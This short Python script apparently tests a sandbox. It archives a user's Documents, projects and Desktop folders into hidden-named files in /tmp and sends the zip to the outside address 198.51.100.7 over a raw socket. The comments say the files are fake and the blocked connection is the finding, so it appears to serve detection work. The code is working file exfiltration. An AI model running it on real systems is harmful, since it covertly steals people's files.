# Collection then exfiltration of the user's ordinary files (no secrets): the documents and
# source folders are zipped with shutil.make_archive and tarred with tar into hidden archives
# in /tmp, then the archive is sent to an outside address (the sandbox has only lo: the
# connect fails with ENETUNREACH, which is the finding). The files are fake ones made for the run.
import os, shutil, socket, subprocess

home = os.path.expanduser("~")
zip_path = shutil.make_archive("/tmp/.sysupd", "zip", root_dir=home, base_dir="Documents")
subprocess.run(["tar", "czf", "/tmp/.cache-src.tgz", "-C", home, "projects", "Desktop"], check=False)
s = socket.socket()
try:
    s.connect(("198.51.100.7", 443))
    with open(zip_path, "rb") as fh:
        s.sendall(fh.read())
except OSError:
    pass
